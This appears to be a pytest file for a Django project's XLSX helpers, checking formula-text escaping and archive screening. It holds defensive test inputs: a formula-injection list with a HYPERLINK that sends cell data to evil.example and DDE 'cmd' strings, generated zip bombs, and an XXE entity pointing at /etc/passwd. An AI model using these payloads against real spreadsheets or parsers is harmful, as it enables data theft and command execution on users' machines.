"""The shared safe-cell helper and the workbook archive checks every XLSX reader goes through."""

import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from tiendo.core.exceptions import ApplicationError
from tiendo.core.spreadsheet import WorkbookLimits, append_row, check_workbook_archive, put_at

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=1+1",
]


def saved(book: Workbook) -> bytes:
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back_intact():
    book = Workbook()
    for row, text in enumerate(HOSTILE, start=1):
        put_at(book.active, row=row, column=1, value=text)
    append_row(book.active, HOSTILE)
    sheet = load_workbook(io.BytesIO(saved(book))).active
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert len(cells) == 2 * len(HOSTILE)
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in sheet["A"][: len(HOSTILE)]] == HOSTILE
    assert [cell.value for cell in sheet[len(HOSTILE) + 1]] == HOSTILE


def test_control_characters_do_not_fail_the_export_and_numbers_stay_numbers():
    book = Workbook()
    append_row(book.active, ["a\x01b", 3, 2.5, None])
    row = next(load_workbook(io.BytesIO(saved(book))).active.iter_rows(values_only=True))
    assert row == ("a\ufffdb", 3, 2.5)


def zipped(members: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return output.getvalue()


DEFAULT_LIMITS = WorkbookLimits()


def refusal(content: bytes, limits: WorkbookLimits = DEFAULT_LIMITS) -> str:
    with translation.override("en"), pytest.raises(ApplicationError) as caught:
        check_workbook_archive(content, limits=limits)
    assert caught.value.field == "file"
    return str(caught.value.message)


def test_a_workbook_within_the_bounds_passes():
    check_workbook_archive(saved(Workbook()))


def test_an_upload_over_the_size_bound_is_refused_before_it_is_opened():
    assert "too large" in refusal(b"x" * 2048, WorkbookLimits(max_bytes=1024))


def test_a_file_that_is_not_a_zip_is_refused():
    assert "not a valid XLSX file" in refusal(b"PK\x03\x04 broken")


def test_a_zip_that_expands_past_the_bound_is_refused():
    bomb = zipped({"xl/worksheets/sheet1.xml": b"<c><v>1</v></c>" * 2_000_000})  # 30 MB in ~30 KB
    assert len(bomb) < 200_000
    assert "expands to" in refusal(bomb, WorkbookLimits(max_expanded=20 * 1024 * 1024))


def test_a_member_compressed_abnormally_is_refused_even_under_the_total():
    bomb = zipped({"xl/worksheets/sheet1.xml": b"<c/>" * 1_000_000})
    assert "compressed abnormally" in refusal(bomb)


def test_too_many_members_are_refused():
    assert "too many parts" in refusal(zipped({f"p{i}.xml": b"<a/>" for i in range(300)}))


@pytest.mark.parametrize(
    "declaration",
    [b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>', b'<!DOCTYPE x SYSTEM "file:///etc/passwd">'],
)
def test_a_doctype_or_entity_in_any_xml_part_is_refused(declaration):
    part = b'<?xml version="1.0"?>' + b"<!-- padding -->" * 10_000 + declaration + b"<worksheet/>"
    message = refusal(zipped({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": part}))
    assert "DOCTYPE/ENTITY" in message and "xl/worksheets/sheet1.xml" in message


def test_openpyxl_parses_through_defusedxml():
    """defusedxml is a dependency so that openpyxl refuses entity expansion itself, behind the scan."""
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML
